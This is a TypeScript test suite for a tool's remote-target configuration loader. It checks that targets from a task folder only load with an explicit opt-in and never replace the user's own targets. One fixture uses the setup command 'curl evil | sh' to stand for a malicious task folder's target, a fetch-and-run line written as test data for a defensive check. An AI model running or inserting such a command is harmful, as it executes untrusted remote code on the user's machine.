// Targets from files: a task folder's own targets.json is used only on opt-in and never shadows the user's.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { chooseTarget, loadTargetFiles, TargetFileError } from '../../src/core/remote/targetFiles';

const target = (name: string, setup: string) => ({ name, kind: 'local', remoteDir: '/tmp/box', setup });

suite('remote: target files', () => {
  let dir: string;
  let home: string;
  let taskDir: string;
  let userFile: string;
  let taskFile: string;

  setup(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'speedrun-targets-'));
    home = path.join(dir, 'home');
    taskDir = path.join(dir, 'task');
    userFile = path.join(home, '.config/speedrun/targets.json');
    taskFile = path.join(taskDir, '.speedrun/targets.json');
    fs.mkdirSync(path.dirname(userFile), { recursive: true });
    fs.mkdirSync(path.dirname(taskFile), { recursive: true });
  });
  teardown(() => fs.rmSync(dir, { recursive: true, force: true }));

  const load = (o: { allowTaskTargets?: boolean; file?: string; env?: NodeJS.ProcessEnv } = {}) => loadTargetFiles({ taskDir, home, env: o.env ?? {}, ...o });

  test("a task folder's target never replaces the user's target of the same name, even with the opt-in", () => {
    fs.writeFileSync(userFile, JSON.stringify([target('h100', 'mine')]));
    fs.writeFileSync(taskFile, JSON.stringify({ targets: [target('h100', 'curl evil | sh'), target('extra', 'theirs')] }));
    for (const allowTaskTargets of [false, true]) {
      const l = load({ allowTaskTargets });
      assert.equal(chooseTarget(l, 'h100').setup, 'mine');
      assert.equal(l.origin.get('h100'), userFile);
      assert.ok(l.warnings.some((w) => w.includes(`${taskFile} defines target 'h100' too; yours from ${userFile} is used`)));
    }
  });

  test('without the opt-in a task-only target is refused with the way to allow it; with it, it is used and its file known', () => {
    fs.writeFileSync(userFile, JSON.stringify([target('h100', 'mine')]));
    fs.writeFileSync(taskFile, JSON.stringify([target('shared', 'theirs')]));
    const off = load();
    assert.deepEqual(off.targets.map((t) => t.name), ['h100']);
    assert.deepEqual(off.ignoredTaskTargets, ['shared']);
    assert.throws(() => chooseTarget(off, 'shared'), (e: unknown) => e instanceof TargetFileError && /--allow-task-targets/.test(e.message) && e.message.includes(taskFile));
    const on = load({ allowTaskTargets: true });
    assert.equal(chooseTarget(on, 'shared').setup, 'theirs');
    assert.equal(on.origin.get('shared'), taskFile);
  });

  test('--target may be left out when exactly one target is configured', () => {
    assert.throws(() => chooseTarget(load(), undefined), /no targets are configured/);
    fs.writeFileSync(userFile, JSON.stringify([target('only', '')]));
    assert.equal(chooseTarget(load(), undefined).name, 'only');
    fs.writeFileSync(userFile, JSON.stringify([target('a', ''), target('b', '')]));
    assert.throws(() => chooseTarget(load(), undefined), /2 targets are configured \(a, b\); pick one with --target NAME/);
    // A task-only target is not "the only one" without the opt-in.
    fs.rmSync(userFile);
    fs.writeFileSync(taskFile, JSON.stringify([target('shared', '')]));
    assert.throws(() => chooseTarget(load(), undefined), /--allow-task-targets/);
  });

  test('an explicit file is the whole list; SPEEDRUN_TARGETS_FILE replaces the user file; bad files are named', () => {
    const explicit = path.join(dir, 'mine.json');
    fs.writeFileSync(explicit, JSON.stringify([target('x', '')]));
    fs.writeFileSync(taskFile, JSON.stringify([target('shared', '')]));
    assert.deepEqual(load({ file: explicit, allowTaskTargets: true }).targets.map((t) => t.name), ['x']);
    assert.deepEqual(load({ env: { SPEEDRUN_TARGETS_FILE: explicit } }).targets.map((t) => t.name), ['x']);
    assert.throws(() => load({ file: path.join(dir, 'none.json') }), /cannot read targets from .*none\.json: no such file/);
    fs.writeFileSync(explicit, '[{');
    assert.throws(() => load({ file: explicit }), /mine\.json: not valid JSON/);
  });
});
